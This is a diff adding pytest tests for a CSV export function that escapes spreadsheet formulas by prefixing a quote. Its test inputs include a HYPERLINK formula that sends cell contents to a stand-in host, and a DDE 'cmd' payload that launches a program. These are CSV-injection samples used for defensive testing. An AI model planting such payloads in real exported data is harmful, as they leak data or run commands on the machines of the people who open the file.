@@ -1,0 +1,68 @@
+"""Tables as CSV: what a spreadsheet would take for a formula stands as a text, everything else as it is."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+from typing import Any
+
+import pytest
+
+from bellwether.evaluate.scores import Totals
+from bellwether.history import evaluation_csv, evaluation_rows
+from bellwether.records import EvaluationRecord
+from bellwether.spreadsheet import csv_table
+
+
+def read(table: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(table.decode(), newline="")))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://x.example/?" & A1, "open")',
+        "=1+1",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "--1",
+        "-Infinity",
+    ],
+)
+def test_what_a_spreadsheet_could_compute_is_a_text(text: str) -> None:
+    assert read(csv_table(["name"], [[text]])) == [["name"], [f"'{text}"]]
+
+
+@pytest.mark.parametrize("value", [-0.3, -12, 1e-9, "-0.3", "+5", "-1.5e-7", "-.5", 0])
+def test_numbers_stay_numbers(value: Any) -> None:
+    ((shown,),) = read(csv_table(["n"], [[value]]))[1:]
+    assert float(shown) == float(value)
+
+
+@pytest.mark.parametrize("text", ["a=b", "'=1+1", "plain", "a,b", 'say "x"', "two\nlines", "1-2", "ä€😀", " =1"])
+def test_other_texts_are_written_as_they_are(text: str) -> None:
+    assert read(csv_table(["t"], [[text]])) == [["t"], [text]]
+
+
+def test_heads_are_defused_too() -> None:
+    assert read(csv_table(["arm", "=cmd()"], [])) == [["arm", "'=cmd()"]]
+
+
+def test_what_is_not_there_or_not_finite_has_its_own_words() -> None:
+    assert csv_table(["a", "b", "c", "d"], [[None, math.nan, math.inf, -math.inf]]) == b"a,b,c,d\n,NaN,Infinity,-Infinity\n"
+
+
+def test_half_a_character_does_not_break_the_table() -> None:
+    assert csv_table(["a"], [["\ud800"]]) == b"a\n\\ud800\n"
+
+
+def test_a_category_in_the_scores_of_a_run_is_no_formula() -> None:
+    record = EvaluationRecord(0, "test", {"=1+1": Totals(2, 10, 20.0, 2, 0.5, 1)}, 0.1)
+    rows = read(evaluation_csv(evaluation_rows([record])))
+    assert rows[2][2] == "'=1+1"
